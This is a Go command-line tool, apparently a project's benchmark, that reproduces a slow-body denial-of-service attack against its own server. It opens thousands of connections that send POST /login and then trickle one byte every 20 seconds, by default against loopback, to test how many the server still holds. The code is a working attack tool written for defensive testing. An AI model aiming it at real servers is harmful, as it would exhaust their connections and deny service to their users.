// Command slowbody opens -n connections from the loopback address -from to
// the server at -addr, each sending POST /login with a 1,000-byte body of
// which one byte comes every 20 s, and exits after -for: issue 28's
// slow-body attack, bounded. It prints how many it opened and, every 20 s,
// how many the server still holds. docs/bench/slowbody.sh runs it (two at
// once: one process holds at most its file limit).
package main

import (
	"flag"
	"fmt"
	"net"
	"os"
	"sync"
	"sync/atomic"
	"time"
)

func main() {
	from := flag.String("from", "127.0.0.2", "source address")
	addr := flag.String("addr", "127.0.0.1:8080", "server")
	n := flag.Int("n", 10500, "connections")
	dur := flag.Duration("for", 60*time.Second, "how long the attack lasts")
	flag.Parse()
	end := time.Now().Add(*dur)
	var opened, failed, cut atomic.Int64
	var mu sync.Mutex
	var conns []net.Conn
	d := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(*from)}, Timeout: 5 * time.Second}
	var wg sync.WaitGroup
	sem := make(chan struct{}, 200)
	for range *n {
		if time.Now().After(end) {
			break
		}
		sem <- struct{}{}
		wg.Add(1)
		go func() {
			defer wg.Done()
			defer func() { <-sem }()
			c, err := d.Dial("tcp", *addr)
			if err != nil {
				failed.Add(1)
				return
			}
			if _, err := fmt.Fprintf(c, "POST /login HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 1000\r\n\r\nu"); err != nil {
				cut.Add(1)
				c.Close()
				return
			}
			opened.Add(1)
			mu.Lock()
			conns = append(conns, c)
			mu.Unlock()
		}()
	}
	wg.Wait()
	fmt.Fprintf(os.Stderr, "%s: %d dialled and sent, %d failed to dial, %d cut while sending\n", time.Now().Format("15:04:05"), opened.Load(), failed.Load(), cut.Load())
	// trickle a byte every 20 s on each until the end; count the ones the server closed
	for time.Now().Before(end) {
		time.Sleep(min(20*time.Second, time.Until(end)))
		alive := 0
		mu.Lock()
		for _, c := range conns {
			c.SetWriteDeadline(time.Now().Add(time.Second))
			if _, err := c.Write([]byte("x")); err == nil {
				alive++
			}
		}
		mu.Unlock()
		fmt.Fprintf(os.Stderr, "%s: %d of %d still take bytes\n", time.Now().Format("15:04:05"), alive, len(conns))
	}
	for _, c := range conns {
		c.Close()
	}
}
